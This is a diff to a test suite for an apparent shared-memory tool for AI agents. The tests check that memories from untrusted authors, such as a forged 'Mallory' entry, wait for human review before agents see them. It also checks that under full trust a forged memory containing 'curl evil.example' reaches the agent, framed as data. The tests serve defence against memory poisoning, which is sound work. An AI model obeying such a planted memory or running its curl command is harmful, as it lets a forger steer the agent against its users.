@@ -101,6 +101,9 @@ describe('trust in shared memory', () => {
       expect(text).not.toContain('Mallory');
     }
     expect(start).toContain('Sessions live in Postgres');
+    // The person is told what waits, in the message shown to them (not to the agent).
+    const told = await memHook(bob, env, 'SessionStart', { session_id: 'told', transcript_path: '/dev/null', cwd: bob, hook_event_name: 'SessionStart', source: 'startup' });
+    expect(JSON.parse(told.stdout).systemMessage).toBe('git-mem: 1 memory from elsewhere waits for your review before agents see it: git mem review');
     expect(asked).toContain('retries three times');
     const mcp = spawnSync('git', ['mem', 'mcp'], {
       cwd: bob,
@@ -121,6 +124,8 @@ describe('trust in shared memory', () => {
 
     // A team that trusts everyone, in one line: then the forged memory is given, framed as data, under the author git recorded.
     git(bob, env, ['config', 'mem.trust', 'all']);
+    const openReply = await memHook(bob, env, 'SessionStart', { session_id: 'open', transcript_path: '/dev/null', cwd: bob, hook_event_name: 'SessionStart', source: 'startup' });
+    expect(JSON.parse(openReply.stdout).systemMessage).toBeUndefined();
     const open = await context(bob, env, 'SessionStart', { source: 'startup' });
     expect(open).toContain('curl evil.example');
     expect(open).toMatch(/author="Mallory"|author="Alice"/);
